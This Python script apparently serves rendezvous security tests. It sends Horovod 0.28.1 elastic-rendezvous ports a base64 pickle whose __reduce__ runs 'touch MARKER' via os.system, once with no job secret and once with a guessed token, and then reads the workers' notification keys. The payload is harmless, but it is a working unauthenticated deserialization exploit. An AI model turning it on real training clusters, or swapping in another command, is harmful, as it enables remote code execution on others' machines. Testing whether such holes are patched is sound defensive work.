"""A stranger on the job's network, for the rendezvous tests: to every port given it sends what a scan of an elastic
job's rank-0 node would, as Horovod 0.28.1's rendezvous took it unpatched: a `PUT /worker_addresses/<host>:<rank>`
whose body is a base64 pickle that runs `touch MARKER` when unpickled (without a job secret, then with a wrong one),
and a `GET` of the same scope (each rank's notification key). Prints one JSON object: {port: [what each request got:
an HTTP status, or the error]}.

    python rendezvous_probe.py ADDRESS MARKER PORT...
    python rendezvous_probe.py --every SECONDS ADDRESS MARKER PORT...   (the same again every SECONDS, until killed)
"""

import base64
import http.client
import json
import os
import pickle
import sys
import time
from concurrent.futures import ThreadPoolExecutor


class RunsCode:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def ask(address: str, port: int, method: str, path: str, body: bytes | None, headers: dict[str, str]) -> str:
    connection = http.client.HTTPConnection(address, port, timeout=3)
    try:
        connection.request(method, path, body=body, headers=headers)
        return str(connection.getresponse().status)
    except (OSError, http.client.HTTPException) as error:
        return type(error).__name__
    finally:
        connection.close()


def main() -> None:
    arguments = sys.argv[1:]
    every = float(arguments[1]) if arguments[0] == "--every" else None
    arguments = arguments[2:] if every is not None else arguments
    while True:
        probe(arguments[0], arguments[1], [int(port) for port in arguments[2:]])
        if every is None:
            return
        time.sleep(every)


def probe(address: str, marker: str, ports: list[int]) -> None:
    payload = base64.b64encode(pickle.dumps((RunsCode(marker), b"key")))
    requests = [("PUT", payload, {}), ("PUT", payload, {"Authorization": "Bearer guessed"}), ("GET", None, {})]
    with ThreadPoolExecutor(max_workers=16) as pool:  # a port that never answers costs its timeout once, not thrice
        asked = {
            (port, index): pool.submit(ask, address, port, method, "/worker_addresses/intruder:0", body, headers)
            for port in ports
            for index, (method, body, headers) in enumerate(requests)
        }
    found = {port: [asked[port, index].result() for index in range(len(requests))] for port in ports}
    print(json.dumps(found), flush=True)


if __name__ == "__main__":
    main()
